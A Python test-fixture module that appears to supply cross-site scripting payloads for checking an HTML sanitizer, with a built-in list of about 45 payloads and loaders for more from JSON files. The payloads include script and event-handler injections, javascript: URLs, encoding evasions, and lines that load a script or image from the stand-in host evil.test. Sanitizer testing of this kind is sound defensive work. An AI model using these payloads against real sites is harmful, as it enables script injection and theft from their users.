"""What is planted. A short set of our own, and the lists that XSS_LISTS names (JSON, separated by `:`)."""

import json
import os
from pathlib import Path

# Each tries another way out of text, of an attribute, of a script or of the cleaner's own parser.
OWN = (
    "<script>alert(101)</script>",
    "</script><script>alert(102)</script>",
    "<img src=x onerror=alert(103)>",
    "\"><img src=x onerror=alert(104)>",
    "'><svg/onload=alert(105)>",
    "\" autofocus onfocus=alert(106) x=\"",
    "' onpointerenter='alert(107)' style='position:fixed;inset:0",
    "</title><script>alert(108)</script>",
    "</textarea><script>alert(109)</script>",
    "</style><script>alert(110)</script>",
    "<svg><script>alert&#40;111)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(112)&gt;\">",
    "<a href=\"javascript:alert(113)\">bấm</a>",
    "<a href=\"java\tscript:alert(114)\">bấm</a>",
    "<a href=\"&#106;avascript:alert(115)\">bấm</a>",
    "<a href=\"data:text/html,<script>alert(116)</script>\">bấm</a>",
    "<iframe srcdoc=\"<script>parent.alert(117)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(118)\"></iframe>",
    "<object data=\"data:text/html,<script>parent.alert(119)</script>\"></object>",
    "<embed src=\"javascript:alert(120)\">",
    "<details open ontoggle=alert(121)>",
    "<video><source onerror=alert(122)></video>",
    "<body onload=alert(123)>",
    "<style>@import 'data:text/css,body{}';</style><style onload=alert(124)></style>",
    "<link rel=stylesheet href=\"data:text/css,body{background:red}\" onload=alert(125)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(126)\">",
    "<base href=\"https://evil.test/\">",
    "<form action=\"javascript:alert(127)\"><button autofocus>gửi</button></form>",
    "<input autofocus onfocus=alert(128)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(129)>\">",
    "<template><img src=x onerror=alert(130)></template>",
    "<figure data-block=\"photo\" data-id=\"p1&quot; onclick=alert(131)\"></figure>",
    "<figure data-block=\"embed\" data-id=\"javascript:alert(132)\"></figure>",
    "<p style=\"background:url(javascript:alert(133))\">nền</p>",
    "<![CDATA[<script>alert(134)</script>]]>",
    "<!--><script>alert(135)</script>-->",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(136)</x:script>",
    "{{ ''.__class__ }}{% debug %}${alert(137)}",
    "\u2028<script>alert(138)</script>\u2029",
    "+ADw-script+AD4-alert(139)+ADw-/script+AD4-",
    "＜script＞alert(140)＜/script＞",
    "<scr\u00adipt>alert(141)</scr\u00adipt>",
    "</p></div></main><h1>Trang giả</h1><script src=//evil.test/x.js></script>",
    "<img srcset=\"https://evil.test/x.png 1x\">",
    "]]></title><script>alert(142)</script>",
    "\\u003cscript\\u003ealert(143)\\u003c/script\\u003e",
)  # fmt: skip


def lists() -> tuple[str, ...]:
    """Everything that XSS_LISTS names, each payload once; empty where it names nothing."""
    paths = [Path(path) for path in os.environ.get("XSS_LISTS", "").split(":") if path]
    found = [payload for path in paths for payload in json.loads(path.read_text(encoding="utf-8"))]
    return tuple(dict.fromkeys(found))


def sharpest() -> tuple[str, ...]:
    """Those that run by themselves in a page that does not defend itself (XSS_SHARPEST)."""
    path = os.environ.get("XSS_SHARPEST", "")
    return tuple(json.loads(Path(path).read_text(encoding="utf-8"))) if path else OWN
